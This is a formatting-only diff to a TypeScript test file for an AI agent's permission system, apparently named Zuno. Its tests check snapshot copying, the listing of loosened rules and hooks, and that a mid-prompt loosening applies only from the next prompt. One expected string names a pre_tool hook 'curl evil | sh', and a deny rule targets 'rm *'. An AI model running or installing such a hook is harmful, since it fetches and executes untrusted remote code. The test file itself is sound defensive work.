@@ -37,7 +37,14 @@ test('issue 8 §3: a snapshot is a copy; mutating the config later does not chan
 
 test('issue 8 §3: looseningChanges names each loosening, and nothing for a tightening', () => {
   const before = snapshot({
-    permission: { mode: 'strict', rules: [{ tool: 'shell', match: 'rm *', action: 'deny' }, { tool: 'read', action: 'allow' }], protected: ['deploy/**'] },
+    permission: {
+      mode: 'strict',
+      rules: [
+        { tool: 'shell', match: 'rm *', action: 'deny' },
+        { tool: 'read', action: 'allow' },
+      ],
+      protected: ['deploy/**'],
+    },
     hooks: { pre_tool: [{ command: 'guard' }] },
   });
   const after = snapshot({
@@ -54,7 +61,11 @@ test('issue 8 §3: looseningChanges names each loosening, and nothing for a tigh
     'post_tool hook added `log`',
   ]);
   // The other way round: the deny added, the allow-all removed and the stricter mode are not listed.
-  assert.deepEqual(looseningChanges(after, before), ['allow rule added {tool: "read", action: "allow"}', 'pre_tool hook added `guard`', 'pre_tool hook removed `curl evil | sh`']);
+  assert.deepEqual(looseningChanges(after, before), [
+    'allow rule added {tool: "read", action: "allow"}',
+    'pre_tool hook added `guard`',
+    'pre_tool hook removed `curl evil | sh`',
+  ]);
   assert.deepEqual(looseningChanges(before, before), []);
 });
 
@@ -83,7 +94,12 @@ function liveHarness(initial: ZunoConfigInput, approve: (request: ApprovalReques
   const events = new EventBus();
   const seen: ZunoEvent[] = [];
   events.on((event) => seen.push(event));
-  const scheduler = new Scheduler({ registry: new ToolRegistry([{ tool: touch, defaultSurface: true }]), ledger: new MemoryLedger(), events, env });
+  const scheduler = new Scheduler({
+    registry: new ToolRegistry([{ tool: touch, defaultSurface: true }]),
+    ledger: new MemoryLedger(),
+    events,
+    env,
+  });
   let id = 0;
   const run = (name: string) => {
     const call: ToolCallRequest = { id: `c${++id}`, name: 'touch', arguments: JSON.stringify({ name }) };
@@ -99,7 +115,10 @@ function liveHarness(initial: ZunoConfigInput, approve: (request: ApprovalReques
 test('issue 8 §3: config loosened during a prompt (allow-all rule, auto mode, a pre_tool hook) does not loosen that prompt; the next prompt starts with a notice', async () => {
   const h = liveHarness({ permission: { mode: 'strict' } });
   h.scheduler.beginPrompt('s1');
-  h.setConfig({ permission: { mode: 'auto', rules: [{ tool: '*', action: 'allow' }] }, hooks: { pre_tool: [{ command: 'touch hooked' }] } });
+  h.setConfig({
+    permission: { mode: 'auto', rules: [{ tool: '*', action: 'allow' }] },
+    hooks: { pre_tool: [{ command: 'touch hooked' }] },
+  });
 
   const [held] = await h.run('a.txt');
   assert.deepEqual(held?.outcome, { kind: 'blocked', category: 'denied' });
@@ -110,7 +129,10 @@ test('issue 8 §3: config loosened during a prompt (allow-all rule, auto mode, a
 
   h.scheduler.beginPrompt('s1');
   const [notice] = h.notices();
-  assert.match(notice ?? '', /apply from this prompt on: permission mode strict → auto; allow rule added \{tool: "\*", action: "allow"\}; pre_tool hook added `touch hooked`/);
+  assert.match(
+    notice ?? '',
+    /apply from this prompt on: permission mode strict → auto; allow rule added \{tool: "\*", action: "allow"\}; pre_tool hook added `touch hooked`/,
+  );
   const [next] = await h.run('b.txt');
   assert.deepEqual(next?.outcome, { kind: 'ok' });
   assert.equal(existsSync(join(h.workspace, 'hooked')), true, 'the next prompt runs the new hook');
